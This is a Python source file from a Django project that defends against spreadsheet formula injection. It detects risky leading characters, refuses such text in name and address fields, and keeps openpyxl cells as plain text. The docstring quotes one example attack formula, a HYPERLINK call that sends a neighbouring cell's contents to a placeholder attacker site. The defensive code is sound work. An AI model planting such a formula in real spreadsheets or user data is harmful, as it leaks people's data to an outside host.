"""Formula injection: text that a spreadsheet would run instead of show.

A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
programs strip before the sign) is read as a formula by Excel and LibreOffice when typed, pasted or
opened from CSV: ``=HYPERLINK("http://evil.example/?d="&B2,"Xem")`` sends the neighbouring cell to
another site when clicked. Two defences, both here:

* **exports** write every cell as a value (``dangvu.core.spreadsheets.writer`` writes text as inline
  strings, never formulas; ``text_cell`` does the same for openpyxl, which would otherwise store any
  string starting with ``=`` as a formula);
* **input** refuses such text in fields where it cannot legitimately appear (names, places, addresses):
  ``formula_error`` gives the message naming the field; ``dangvu.members`` checks its fields in
  ``Member.clean`` (forms, the API, services) and the importer checks each row.
"""

from __future__ import annotations

from typing import Any

from django.utils.text import format_lazy
from django.utils.translation import gettext_lazy as _

# What a spreadsheet may take as the start of a formula (OWASP's CSV-injection list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value: object) -> bool:
    """True if ``value`` is text a spreadsheet could run as a formula (spaces before the sign too:
    some programs trim a cell before reading it)."""
    return isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_STARTS)


def formula_error(label: Any) -> Any:
    """The Vietnamese (translatable) message refusing such text in the field called ``label``."""
    return format_lazy(
        _("{field} không được bắt đầu bằng dấu =, +, -, @ (dễ bị bảng tính hiểu là công thức)."),
        field=label,
    )


def text_cell(cell: Any, value: object) -> Any:
    """Set an openpyxl cell to ``value``, keeping text that looks like a formula as text."""
    cell.value = value
    if isinstance(value, str) and cell.data_type == "f":
        cell.data_type = "s"
    return cell


def append_values(sheet: Any, values: list[object]) -> None:
    """``sheet.append(values)`` for openpyxl, every text kept as text (never a formula)."""
    sheet.append(values)
    for cell in sheet[sheet.max_row]:
        if cell.data_type == "f":
            cell.data_type = "s"
